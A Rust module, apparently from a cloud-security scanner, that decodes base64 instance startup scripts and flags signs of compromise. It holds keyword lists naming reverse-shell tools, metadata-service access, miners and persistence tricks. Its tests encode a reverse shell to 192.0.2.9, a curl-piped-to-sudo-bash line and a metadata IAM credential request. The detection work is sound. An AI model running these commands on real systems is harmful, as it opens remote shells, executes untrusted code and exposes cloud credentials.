//! What a script that runs at a start says of whoever wrote it. None of it is ever repeated: it may hold secrets.

/// Words that stand in scripts which do so, and what they do. Scripts that read their own tags, or stop an idle
/// instance by `cron`, are AWS's own examples.
const SIGNS: &[(&[&str], &str)] = &[
    (
        &["/dev/tcp/", "/dev/udp/", "nc -e", "ncat -e", "nc -c", "socat exec", "bash -i >&"],
        "opens a shell to elsewhere",
    ),
    (&["169.254.169.254", "fd00:ec2::254"], "asks the metadata service"),
    (&["base64 -d", "base64 --decode", "openssl enc -d", "xxd -r"], "runs what is hidden in it"),
    (&["xmrig", "stratum+tcp", "minerd", "cryptonight"], "mines coins"),
    (&["authorized_keys"], "lets somebody in by a key"),
    (&["ngrok ", "cloudflared tunnel", "/etc/sudoers", "ld_preload"], "keeps a way in open"),
];

const FETCHES: [&str; 2] = ["curl ", "wget "];

const RUNS: [&str; 7] = ["bash", "sh", "sudo bash", "sudo sh", "python", "python3", "perl"];

/// What scripts in base64 do that none should; empty for nothing. A script that is no base64 says nothing.
pub(crate) fn signs<'a>(scripts: impl IntoIterator<Item = &'a str>) -> Vec<&'static str> {
    let scripts: Vec<_> = scripts.into_iter().filter_map(decoded).map(|script| script.to_lowercase()).collect();
    let says = |words: &[&str]| scripts.iter().any(|script| words.iter().any(|word| script.contains(word)));
    let told = SIGNS.iter().filter(|(words, _)| says(words)).map(|(_, sign)| *sign);
    let runs = scripts.iter().any(|script| script.lines().any(runs_what_it_fetches));
    told.chain(runs.then_some("runs what it downloads")).collect()
}

/// `curl https://… | bash`.
fn runs_what_it_fetches(line: &str) -> bool {
    let mut parts = line.split('|').map(str::trim);
    let fetches = |part: &str| FETCHES.iter().any(|word| part.contains(word));
    parts.any(fetches) && parts.any(|part| RUNS.iter().any(|run| part == *run || part.starts_with(&format!("{run} "))))
}

/// The text that stands there in base64.
fn decoded(content: &str) -> Option<String> {
    let (mut bytes, mut held, mut bits) = (Vec::new(), 0_u32, 0_u32);
    let symbols = content.bytes().filter(|symbol| !symbol.is_ascii_whitespace() && *symbol != b'=');
    for symbol in symbols {
        held = (held << 6) | u32::from(value(symbol)?);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            bytes.extend(u8::try_from(held >> bits));
            held &= (1 << bits) - 1;
        }
    }
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

const fn value(symbol: u8) -> Option<u8> {
    Some(match symbol {
        b'A'..=b'Z' => symbol - b'A',
        b'a'..=b'z' => symbol - b'a' + 26,
        b'0'..=b'9' => symbol - b'0' + 52,
        b'+' => 62,
        b'/' => 63,
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::{decoded, signs};

    #[test]
    fn a_script_is_read_out_of_base64() {
        assert_eq!(decoded("ZWNobyBoaQo=").as_deref(), Some("echo hi\n"));
        assert_eq!(decoded("ZWNo\nbyBo\naQ==").as_deref(), Some("echo hi"));
        assert_eq!(decoded("").as_deref(), Some(""));
        assert_eq!(decoded("{not base64}"), None);
    }

    #[test]
    fn what_a_script_does_is_told_by_its_words() {
        for (script, sign) in [
            ("YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjkvNDQzIDA+JjE=", "opens a shell to elsewhere"),
            ("Y3VybCAtcyBodHRwczovL2V4YW1wbGUuY29tL3NldHVwIHwgc3VkbyBiYXNoIC1z", "runs what it downloads"),
            ("Y3VybCBodHRwOi8vMTY5LjI1NC4xNjkuMjU0L2xhdGVzdC9tZXRhLWRhdGEvaWFtLw==", "asks the metadata service"),
        ] {
            assert_eq!(signs([script]), [sign], "{:?}", decoded(script));
        }
    }

    #[test]
    fn what_set_up_scripts_do_is_no_sign() {
        let idle = "c3VkbyAtdSBlYzItdXNlciBwaXAgaW5zdGFsbCBwYW5kYXMKd2dldCBodHRwczovL2V4YW1wbGUuY29tL2F1dG9zdG9wLnB5Cihjcm9udGFiIC1sOyBlY2hvICIqLzUgKiAqICogKiBweXRob24gYXV0b3N0b3AucHkiKSB8IGNyb250YWIgLQ==";
        assert_eq!(signs([idle]), Vec::<&str>::new(), "{:?}", decoded(idle));
    }
}
